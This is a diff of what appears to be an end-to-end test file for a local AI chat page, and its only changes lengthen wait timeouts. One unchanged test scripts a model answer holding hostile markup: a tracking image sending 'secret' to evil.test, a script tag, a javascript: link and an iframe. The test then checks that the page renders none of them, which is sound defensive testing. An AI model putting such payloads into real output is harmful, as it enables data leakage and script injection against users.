@@ -50,14 +50,14 @@ test("a wrong key is told at once; a right one leads to a real answer", { skip }
   await page.getByLabel("API key").fill(key);
   await page.getByLabel("Address").fill(`${provider.url}/v1`);
   await page.getByRole("button", { name: "Check and begin" }).click();
-  await page.getByLabel("Message", { exact: true }).waitFor({ timeout: 60_000 });
+  await page.getByLabel("Message", { exact: true }).waitFor({ timeout: 180_000 });
   provider.script({
     kind: "answer",
     text: "Hello! I run on your own computer.\n\n- **Private** by construction\n- `loopback` only\n\n```ts\nconst answer = 42;\n```",
     chunkDelayMs: 15,
   });
   await page.getByRole("button", { name: "Say hello and tell me what you can do." }).click();
-  await page.getByText("Private").waitFor({ timeout: 60_000 });
+  await page.getByText("Private").waitFor({ timeout: 180_000 });
   await page.getByText("const answer = 42;").waitFor();
   await page.getByTestId("running").waitFor({ state: "detached" });
   await examine(page, "chat");
@@ -70,7 +70,7 @@ test("the answer's markup cannot reach out, run or pose as ours", { skip }, asyn
     text: 'Look ![pixel](http://evil.test/p.png?secret) <img src="http://evil.test/q.png"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) [fine](https://example.org/x) <iframe src="http://evil.test"></iframe> done-marker',
   });
   await send("show me");
-  await page.getByText("done-marker").waitFor({ timeout: 30_000 });
+  await page.getByText("done-marker").waitFor({ timeout: 90_000 });
   const last = page.getByRole("article").last();
   assert.equal(await last.locator("img, iframe, script").count(), 0);
   assert.equal(
@@ -89,7 +89,7 @@ test(
     provider.script({ kind: "answer", text: `Run this:\n\n\`\`\`sh\n${command}\n\`\`\`\n` });
     await send("what shall I run?");
     const block = page.getByRole("figure", { name: "sh" });
-    await block.waitFor({ timeout: 30_000 });
+    await block.waitFor({ timeout: 90_000 });
     await page.getByTestId("running").waitFor({ state: "detached" });
     await block.getByRole("button", { name: "Copy code" }).click();
     await block.getByRole("button", { name: "Copied" }).waitFor();
@@ -114,7 +114,7 @@ test(
 test("stopping keeps what is there; reloading neither loses nor doubles", { skip }, async () => {
   provider.script({ kind: "answer", text: "word ".repeat(400), chunkDelayMs: 25 });
   await send("tell a long story");
-  await page.getByTestId("running").getByText("word word").waitFor({ timeout: 30_000 });
+  await page.getByTestId("running").getByText("word word").waitFor({ timeout: 90_000 });
   await page.keyboard.press("Escape");
   await page.getByTestId("running").waitFor({ state: "detached", timeout: 15_000 });
   const before = await page.getByRole("article").count();
@@ -132,7 +132,7 @@ test("a fault of the provider is one sentence in the conversation", { skip }, as
   await page
     .getByText(/refused the key/)
     .first()
-    .waitFor({ timeout: 30_000 });
+    .waitFor({ timeout: 90_000 });
   provider.fallback(() => ({ kind: "answer", text: "ready" }));
   assert.ok(Date.now() - started < 15_000);
 });
@@ -215,10 +215,10 @@ test("OpenClaw is stopped and started from the page", { skip }, async () => {
   const listens = page.getByText("this computer only").first();
   await listens.waitFor();
   await page.getByRole("button", { name: "Stop", exact: true }).click();
-  await page.getByText("Nowhere.").waitFor({ timeout: 30_000 });
+  await page.getByText("Nowhere.").waitFor({ timeout: 90_000 });
   await page.getByRole("button", { name: "Start", exact: true }).click();
-  await listens.waitFor({ timeout: 60_000 });
-  await page.getByText("OpenClaw: Ready").waitFor({ timeout: 60_000 });
+  await listens.waitFor({ timeout: 180_000 });
+  await page.getByText("OpenClaw: Ready").waitFor({ timeout: 180_000 });
 });
 
 test("updates are looked for, held and put by from the page, by keyboard too", { skip }, async () => {
@@ -227,7 +227,7 @@ test("updates are looked for, held and put by from the page, by keyboard too", {
   await page
     .getByText(/Nothing newer, looked|The last look failed|Found 20/)
     .first()
-    .waitFor({ timeout: 30_000 });
+    .waitFor({ timeout: 90_000 });
   await page.getByText("There were no updates yet.").waitFor();
   const hold = page.getByRole("switch", { name: /^Hold at / });
   await hold.focus();
